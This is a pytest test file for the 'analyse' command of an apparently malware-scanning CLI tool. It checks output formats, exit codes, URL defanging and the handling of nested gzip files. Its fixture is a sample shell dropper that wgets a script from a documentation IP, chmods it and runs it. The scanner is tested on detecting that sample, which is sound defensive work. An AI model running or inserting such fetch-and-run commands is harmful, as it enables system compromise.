# SPDX-License-Identifier: Apache-2.0
"""`mead analyse`: offline, with the exit codes and formats of the contract."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from mead.cli.main import cli

TEXT = b"#!/bin/sh\ncd /tmp; wget http://192.0.2.7/a.sh; chmod 777 a.sh; ./a.sh\n"


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "r.yar").write_text('rule marker { strings: $a = "a.sh" condition: $a }')
    return folder


def _run(*arguments: object) -> Result:
    return CliRunner().invoke(cli, ["analyse", "--clamd", "/nonexistent/clamd", *map(str, arguments)])


def test_json_lines_one_per_body(tmp_path: Path) -> None:
    path = tmp_path / "a.gz"
    path.write_bytes(gzip.compress(TEXT))
    result = _run(path, "-o", "jsonl")
    assert result.exit_code == 0, result.output
    outer, inner = (json.loads(line) for line in result.stdout.splitlines())
    assert inner["parent_sha256"] == outer["sha256"]
    assert outer["children"] == [inner["sha256"]]
    assert inner["type"] == "script"
    assert "http://192.0.2.7/a.sh" in {found["indicator"] for found in inner["indicators"]}
    assert {"yara", "hashes"} <= {engine["analyser"] for engine in inner["engines"]}
    assert all(engine["jail_level"] for engine in inner["engines"])


def test_found_is_exit_code_1_unless_told_otherwise(tmp_path: Path, rules: Path) -> None:
    path = tmp_path / "a.sh"
    path.write_bytes(TEXT)
    assert _run(path, "--rules", rules, "-o", "json").exit_code == 1
    result = _run(path, "--rules", rules, "-o", "json", "--exit-zero")
    assert result.exit_code == 0
    (record,) = json.loads(result.stdout)
    assert record["verdict"] == "found"


def test_table_is_defanged_and_escaped(tmp_path: Path) -> None:
    path = tmp_path / "a.gz"
    path.write_bytes(gzip.compress(TEXT + b"\x1b[2Jclear http://192.0.2.8/\x1b[31m\n"))
    result = _run(path, "-o", "table")
    assert "\x1b" not in result.stdout
    assert "hxxp://192[.]0[.]2[.]7/a.sh" in result.stdout
    assert "http://192.0.2.7" not in result.stdout


def test_csv_has_a_row_per_body(tmp_path: Path) -> None:
    path = tmp_path / "a.gz"
    path.write_bytes(gzip.compress(TEXT))
    rows = list(csv.DictReader(io.StringIO(_run(path, "-o", "csv").stdout)))
    assert [row["depth"] for row in rows] == ["0", "1"]


def test_an_unreadable_file_is_named_and_the_others_are_looked_at(tmp_path: Path) -> None:
    path = tmp_path / "a.sh"
    path.write_bytes(TEXT)
    result = _run(tmp_path / "none", path, "-o", "jsonl")
    assert result.exit_code == 10
    assert "none: cannot be read" in result.stderr
    assert len(result.stdout.splitlines()) == 1


def test_every_finding_names_its_engine_and_its_jail(tmp_path: Path, rules: Path) -> None:
    path = tmp_path / "a.sh"
    path.write_bytes(TEXT)
    (record,) = json.loads(_run(path, "--rules", rules, "-o", "json").stdout)
    assert all(finding["jail_level"] for finding in record["findings"])
    (yara,) = [finding for finding in record["findings"] if finding["rule"] == "r.yar:marker"]
    assert yara["engine_version"].startswith("yara-x ")
    assert yara["database"].startswith("sha256:")


def test_a_named_clamd_that_is_not_there_is_said_and_is_a_failed_scan(tmp_path: Path) -> None:
    path = tmp_path / "a.sh"
    path.write_bytes(TEXT)
    result = _run(path, "-o", "json")
    assert "not used: clamav: no clamd at /nonexistent/clamd" in result.stderr
    (record,) = json.loads(result.stdout)
    assert record["verdict"] == "failed"


def test_looking_twice_gives_the_same_but_for_the_times(tmp_path: Path, rules: Path) -> None:
    body = gzip.compress(TEXT + b"http://192.0.2.9/x\n", mtime=0)
    path = tmp_path / "a.gz"
    path.write_bytes(body)

    def look() -> list[dict[str, object]]:
        records: list[dict[str, object]] = []
        for line in _run(path, "--rules", rules, "-o", "jsonl").stdout.splitlines():
            record = json.loads(line)
            for engine in record["engines"]:
                del engine["duration_ms"]
            records.append(record)
        return records

    assert look() == look()


def test_a_bound_of_the_tree_leaves_no_clean_root(tmp_path: Path, rules: Path) -> None:
    body = b"innermost"
    for _ in range(4):
        body = gzip.compress(body)
    path, config = tmp_path / "a.gz", tmp_path / "mead.toml"
    path.write_bytes(body)
    config.write_text('[analysis]\nmax_depth = 2\nclamd_socket = ""\n')
    arguments = ["--config", str(config), "analyse", str(path), "--rules", str(rules), "-o", "jsonl"]
    result = CliRunner().invoke(cli, arguments)
    root, *inner = (json.loads(line) for line in result.stdout.splitlines())
    assert root["verdict"] == "skipped"
    assert [record["verdict"] for record in inner] == ["clean", "clean"]
